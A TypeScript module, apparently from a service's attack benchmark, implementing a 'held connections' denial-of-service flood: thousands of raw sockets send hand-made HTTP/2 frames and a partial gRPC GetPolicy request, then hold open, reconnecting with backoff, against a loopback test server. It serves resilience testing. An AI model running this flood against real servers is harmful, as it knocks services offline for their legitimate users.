// Held connections (issue 25, item 6): from one address, thousands of connections to a port, each holding one
// unfinished request — the HTTP/2 preface, SETTINGS, a GetPolicy's HEADERS and the first bytes of its message, then
// nothing. Raw sockets with hand-made frames: an attacker needs no HTTP/2 library. The attacker keeps the flood up: a
// connection the server held and then closed (a time-out) is opened again after a second; one the server refused at
// once is tried again with backoff (1 s doubling to 30 s), as a client would — retried every second, the refused ones
// alone would make thousands of new connections a second, a connection-rate flood, which is another attack (one for
// the network's filters), not this one. The flood runs in a process of its own (bench/held-flood.ts), as an
// attacker's client would: in the benchmark's process its thousands of sockets would starve the victim's client of
// its event loop, and the victim's latency would measure the attacker.
import { spawn } from "node:child_process";
import net from "node:net";
import type { Attack } from "./attack.js";

/** Connections per port, as in the issue (it kept the gRPC port refusing everyone). */
export const FLOOD_CONNECTIONS = 4096;
/** A held connection the server closed is opened again after this. */
export const RECONNECT_MS = 1000;
/** A refused one is tried again after RECONNECT_MS, doubled at each refusal in a row up to this. */
export const RETRY_MAX_MS = 30_000;
/** The attacker's address: another loopback address than the victim's. */
export const ATTACKER_ADDRESS = "127.0.0.66";

export interface FloodOptions {
  port: number;
  connections: number;
  /** The local address the connections come from. */
  from: string;
}

export interface FloodStats {
  /** Connections the server took (answered their preface) and still holds. */
  held: number;
  /** The most held at once. */
  maxHeld: number;
  /** Connections opened in all (TCP handshakes done; each attempt counts). */
  opened: number;
  /** Closed by the server before it answered (refused by a cap). */
  refused: number;
  /** Closed by the server after it had taken them (a time-out). */
  cut: number;
}

/**
 * Holds `connections` unfinished requests on `port` until `signal` aborts, reopening what the server closes;
 * `established` resolves once every connection has been tried once (taken or refused).
 */
export function holdConnections(options: FloodOptions, signal: AbortSignal): { stats: FloodStats; established: Promise<void>; done: Promise<void> } {
  const stats: FloodStats = { held: 0, maxHeld: 0, opened: 0, refused: 0, cut: 0 };
  const request = heldRequest(`127.0.0.1:${options.port}`);
  const sockets = new Set<net.Socket>();
  let untried = options.connections;
  let allTried!: () => void;
  const established = new Promise<void>((resolve) => (allTried = resolve));
  const aborted = new Promise<void>((resolve) => signal.addEventListener("abort", () => resolve(), { once: true }));
  const pause = (ms: number) => Promise.race([aborted, new Promise<void>((resolve) => setTimeout(resolve, ms).unref())]);
  /** One connection until the server closes it: whether the server had taken it. `tried` is told of the outcome. */
  const hold = (tried: () => void) =>
    new Promise<boolean>((resolve) => {
      const socket = net.connect({ port: options.port, host: "127.0.0.1", localAddress: options.from });
      sockets.add(socket);
      let taken = false;
      socket.on("error", () => {});
      socket.once("connect", () => {
        stats.opened++;
        socket.write(request);
      });
      // The server's first bytes (its SETTINGS) say it took the connection; the rest is read and dropped.
      socket.once("data", () => {
        taken = true;
        stats.held++;
        stats.maxHeld = Math.max(stats.maxHeld, stats.held);
        tried();
      });
      socket.resume();
      socket.once("close", () => {
        sockets.delete(socket);
        if (taken) stats.held--;
        else tried();
        if (!signal.aborted) taken ? stats.cut++ : stats.refused++;
        resolve(taken);
      });
    });
  const slot = async () => {
    let first = true;
    const tried = () => {
      if (first && --untried === 0) allTried();
      first = false;
    };
    let backoffMs = 0;
    while (!signal.aborted) {
      const taken = await hold(tried);
      backoffMs = taken ? 0 : backoffMs === 0 ? RECONNECT_MS : Math.min(RETRY_MAX_MS, backoffMs * 2);
      await pause(taken ? RECONNECT_MS : backoffMs);
    }
  };
  signal.addEventListener("abort", () => {
    for (const socket of sockets) socket.destroy();
  });
  const done = Promise.all(Array.from({ length: options.connections }, slot)).then(() => undefined);
  return { stats, established, done };
}

/** The client preface, an empty SETTINGS, and stream 1: a gRPC GetPolicy's HEADERS and 5 of its message's 105 bytes. */
function heldRequest(authority: string): Buffer {
  const headers = Buffer.concat(
    [
      [":method", "POST"],
      [":scheme", "http"],
      [":path", "/policy.v1.PolicyService/GetPolicy"],
      [":authority", authority],
      ["content-type", "application/grpc"],
      ["te", "trailers"],
    ].map(([name, value]) => literal(name!, value!)),
  );
  return Buffer.concat([
    Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    frame(0x4, 0, 0, Buffer.alloc(0)),
    frame(0x1, 0x4, 1, headers),
    frame(0x0, 0, 1, Buffer.from([0, 0, 0, 0, 100])),
  ]);
}

/** An HTTP/2 frame: 24-bit length, type, flags, stream id. */
function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** An HPACK literal header field without indexing, new name, no Huffman coding (names and values under 127 bytes). */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0x00, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
}

export interface FloodProcess {
  /** Resolves once every connection has been tried once. */
  established: Promise<void>;
  /** Lets go of the connections; resolves with what the flood did. */
  stop(): Promise<FloodStats>;
}

/** The flood against `port` from `from`, in a child process (bench/held-flood.ts). */
export function floodProcess(port: number, from = ATTACKER_ADDRESS): FloodProcess {
  const child = spawn(process.execPath, ["--import", "tsx", "bench/held-flood.ts", "--port", String(port), "--from", from], {
    stdio: ["ignore", "pipe", "inherit"],
  });
  const lines: string[] = [];
  let partial = "";
  let onLine = () => {};
  child.stdout.on("data", (chunk: Buffer) => {
    const parts = (partial + chunk.toString()).split("\n");
    partial = parts.pop()!;
    lines.push(...parts);
    onLine();
  });
  const exited = new Promise<void>((resolve) => child.once("exit", () => resolve()));
  const established = new Promise<void>((resolve, reject) => {
    onLine = () => lines.includes("established") && resolve();
    void exited.then(() => reject(new Error("the flood exited before it was established")));
  });
  established.catch(() => {});
  let stopped: Promise<FloodStats> | undefined;
  return {
    established,
    stop: () =>
      (stopped ??= (async () => {
        child.kill("SIGTERM");
        await exited;
        return JSON.parse(lines.find((l) => l.startsWith("{")) ?? "null") as FloodStats;
      })()),
  };
}

export const attack: Attack = {
  name: "held connections",
  description: `${FLOOD_CONNECTIONS} connections to each port from one address, each holding an unfinished GetPolicy`,
  async run(ctx, signal) {
    const floods = [ctx.mainUrl, ctx.grpcUrl].map((url) => floodProcess(Number(new URL(url).port)));
    await new Promise<void>((resolve) => signal.addEventListener("abort", () => resolve(), { once: true }));
    await Promise.all(floods.map((f) => f.stop()));
  },
};
